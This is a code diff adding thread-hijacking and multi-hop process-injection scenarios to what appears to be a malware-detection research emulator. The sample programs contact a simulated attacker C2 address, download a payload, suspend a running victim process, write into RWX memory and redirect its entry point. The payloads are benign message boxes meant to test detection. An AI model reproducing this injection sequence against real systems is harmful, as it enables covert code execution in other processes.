@@ -617,6 +617,200 @@ std::unique_ptr<os::EventSource> MultiStageC2Scenario::make_source() {
 }
 
 // ---------------------------------------------------------------------------
+// Thread hijacking: suspend a *running* victim, redirect its context.
+
+Result<void> ThreadHijackScenario::setup(os::Machine& m) {
+  using vm::Reg;
+  auto r = install_image(m, "C:/Windows/taskhost.exe",
+                         build_idle_program("taskhost.exe"));
+  if (!r.ok()) return r;
+
+  // The hijacker: download, then the SetThreadContext sequence — suspend,
+  // carve RWX, write across the boundary, redirect, resume. Unlike
+  // hollowing there is no child spawn and nothing is unmapped; the victim
+  // was already running its own code.
+  os::ImageBuilder ib("hijacker.exe", os::kUserImageBase);
+  auto& a = ib.asm_();
+  a.label("_start");
+  emit_connect(a, kAttackerIp, kAttackerPort);
+  emit_send_label(a, "req", 3);
+  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
+  a.mov(Reg::R9, Reg::R0);
+  emit_recv(a, Reg::R9, 4096);
+  a.mov(Reg::R8, Reg::R0);  // payload length
+  a.movi_label(Reg::R1, "target");
+  emit_sys(a, os::Sys::kNtOpenProcessByName);
+  a.mov(Reg::R7, Reg::R0);
+  a.mov(Reg::R1, Reg::R7);
+  emit_sys(a, os::Sys::kNtSuspendProcess);
+  a.mov(Reg::R1, Reg::R7);
+  a.movi(Reg::R2, 4096);
+  a.movi(Reg::R3, os::kProtRead | os::kProtWrite | os::kProtExec);
+  emit_sys(a, os::Sys::kNtAllocateVirtualMemory);
+  a.mov(Reg::R6, Reg::R0);
+  a.mov(Reg::R1, Reg::R7);
+  a.mov(Reg::R2, Reg::R6);
+  a.mov(Reg::R3, Reg::R9);
+  a.mov(Reg::R4, Reg::R8);
+  emit_sys(a, os::Sys::kNtWriteVirtualMemory);
+  a.mov(Reg::R1, Reg::R7);
+  a.mov(Reg::R2, Reg::R6);
+  emit_sys(a, os::Sys::kNtSetEntryPoint);
+  a.mov(Reg::R1, Reg::R7);
+  emit_sys(a, os::Sys::kNtResumeProcess);
+  emit_exit(a, 0);
+  a.align(8);
+  a.label("req");
+  a.data_str("GET", false);
+  a.align(8);
+  a.label("target");
+  a.data_str("taskhost.exe");
+  r = install_image(m, std::string(kSampleDir) + "hijacker.exe", ib.build());
+  if (!r.ok()) return r;
+
+  // Victim first: it must already be running when the hijacker suspends it.
+  auto pid = m.kernel().spawn("C:/Windows/taskhost.exe");
+  if (!pid.ok()) return Err<void>(pid.error().message);
+  pid = m.kernel().spawn(std::string(kSampleDir) + "hijacker.exe");
+  if (!pid.ok()) return Err<void>(pid.error().message);
+  return Ok();
+}
+
+std::unique_ptr<os::EventSource> ThreadHijackScenario::make_source() {
+  PayloadSpec spec;
+  spec.action = PayloadAction::kMessageBox;
+  spec.message = "hijacked payload in taskhost.exe";
+  spec.ending = PayloadEnding::kLoopForever;  // stays resident at snapshot
+  auto payload = build_payload(spec);
+  auto c2 = std::make_unique<C2Server>();
+  if (payload.ok()) c2->queue_response(payload.value());
+  return c2;
+}
+
+// ---------------------------------------------------------------------------
+// A -> B -> C injection relay.
+
+Result<void> InjectionRelayScenario::setup(os::Machine& m) {
+  using vm::Reg;
+  auto r = install_image(m, "C:/Windows/relay.exe",
+                         build_idle_program("relay.exe"));
+  if (!r.ok()) return r;
+  r = install_image(m, "C:/Windows/conhost.exe",
+                    build_idle_program("conhost.exe"));
+  if (!r.ok()) return r;
+
+  // Stage 0: downloads the combined [stub][payload] blob and thread-hijacks
+  // the *whole blob* into relay.exe. The stub half then runs inside relay
+  // and performs the second hop on its own.
+  os::ImageBuilder ib("stage0.exe", os::kUserImageBase);
+  auto& a = ib.asm_();
+  a.label("_start");
+  emit_connect(a, kAttackerIp, kAttackerPort);
+  emit_send_label(a, "req", 3);
+  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
+  a.mov(Reg::R9, Reg::R0);
+  emit_recv(a, Reg::R9, 4096);
+  a.mov(Reg::R8, Reg::R0);  // blob length
+  a.movi_label(Reg::R1, "target");
+  emit_sys(a, os::Sys::kNtOpenProcessByName);
+  a.mov(Reg::R7, Reg::R0);
+  a.mov(Reg::R1, Reg::R7);
+  emit_sys(a, os::Sys::kNtSuspendProcess);
+  a.mov(Reg::R1, Reg::R7);
+  a.movi(Reg::R2, 4096);
+  a.movi(Reg::R3, os::kProtRead | os::kProtWrite | os::kProtExec);
+  emit_sys(a, os::Sys::kNtAllocateVirtualMemory);
+  a.mov(Reg::R6, Reg::R0);
+  a.mov(Reg::R1, Reg::R7);
+  a.mov(Reg::R2, Reg::R6);
+  a.mov(Reg::R3, Reg::R9);
+  a.mov(Reg::R4, Reg::R8);
+  emit_sys(a, os::Sys::kNtWriteVirtualMemory);
+  a.mov(Reg::R1, Reg::R7);
+  a.mov(Reg::R2, Reg::R6);
+  emit_sys(a, os::Sys::kNtSetEntryPoint);
+  a.mov(Reg::R1, Reg::R7);
+  emit_sys(a, os::Sys::kNtResumeProcess);
+  emit_exit(a, 0);
+  a.align(8);
+  a.label("req");
+  a.data_str("GET", false);
+  a.align(8);
+  a.label("target");
+  a.data_str("relay.exe");
+  r = install_image(m, std::string(kSampleDir) + "stage0.exe", ib.build());
+  if (!r.ok()) return r;
+
+  // Both victims must already be running; relay is hijacked by stage0, and
+  // conhost by the stub running inside relay.
+  auto pid = m.kernel().spawn("C:/Windows/relay.exe");
+  if (!pid.ok()) return Err<void>(pid.error().message);
+  pid = m.kernel().spawn("C:/Windows/conhost.exe");
+  if (!pid.ok()) return Err<void>(pid.error().message);
+  pid = m.kernel().spawn(std::string(kSampleDir) + "stage0.exe");
+  if (!pid.ok()) return Err<void>(pid.error().message);
+  return Ok();
+}
+
+std::unique_ptr<os::EventSource> InjectionRelayScenario::make_source() {
+  using vm::Reg;
+  // The final payload (runs in conhost.exe, hop C): an export-walking
+  // MessageBox — the one confluence trigger of the whole chain.
+  PayloadSpec spec;
+  spec.action = PayloadAction::kMessageBox;
+  spec.message = "relayed payload in conhost.exe";
+  spec.ending = PayloadEnding::kLoopForever;
+  auto payload = build_payload(spec);
+  if (!payload.ok()) return std::make_unique<C2Server>();
+
+  // The relay stub (runs in relay.exe, hop B): position-independent code
+  // that re-injects the payload embedded in its own blob into conhost.exe
+  // with the same suspend/write/redirect sequence, then exits. It makes
+  // only syscalls plus one tainted LD32 (the embedded length word) and
+  // never touches an export table, so hop B itself must NOT flag — the
+  // relay shows up in the slice purely through provenance.
+  vm::Assembler sa;
+  sa.addpc_label(Reg::R9, "payload");
+  sa.addpc_label(Reg::R5, "plen");
+  sa.ld32(Reg::R8, Reg::R5, 0);
+  sa.addpc_label(Reg::R1, "cname");
+  emit_sys(sa, os::Sys::kNtOpenProcessByName);
+  sa.mov(Reg::R7, Reg::R0);
+  sa.mov(Reg::R1, Reg::R7);
+  emit_sys(sa, os::Sys::kNtSuspendProcess);
+  sa.mov(Reg::R1, Reg::R7);
+  sa.movi(Reg::R2, 4096);
+  sa.movi(Reg::R3, os::kProtRead | os::kProtWrite | os::kProtExec);
+  emit_sys(sa, os::Sys::kNtAllocateVirtualMemory);
+  sa.mov(Reg::R6, Reg::R0);
+  sa.mov(Reg::R1, Reg::R7);
+  sa.mov(Reg::R2, Reg::R6);
+  sa.mov(Reg::R3, Reg::R9);
+  sa.mov(Reg::R4, Reg::R8);
+  emit_sys(sa, os::Sys::kNtWriteVirtualMemory);
+  sa.mov(Reg::R1, Reg::R7);
+  sa.mov(Reg::R2, Reg::R6);
+  emit_sys(sa, os::Sys::kNtSetEntryPoint);
+  sa.mov(Reg::R1, Reg::R7);
+  emit_sys(sa, os::Sys::kNtResumeProcess);
+  emit_exit(sa, 0);
+  sa.align(8);
+  sa.label("plen");
+  sa.data_u32(static_cast<u32>(payload.value().size()));
+  sa.align(8);
+  sa.label("cname");
+  sa.data_str("conhost.exe");
+  sa.align(8);
+  sa.label("payload");
+  sa.data(ByteSpan(payload.value().data(), payload.value().size()));
+  auto blob = sa.assemble(0);
+
+  auto c2 = std::make_unique<C2Server>();
+  if (blob.ok()) c2->queue_response(blob.value());
+  return c2;
+}
+
+// ---------------------------------------------------------------------------
 // Table IV behaviour samples.
 
 Result<void> BehaviorScenario::setup(os::Machine& m) {
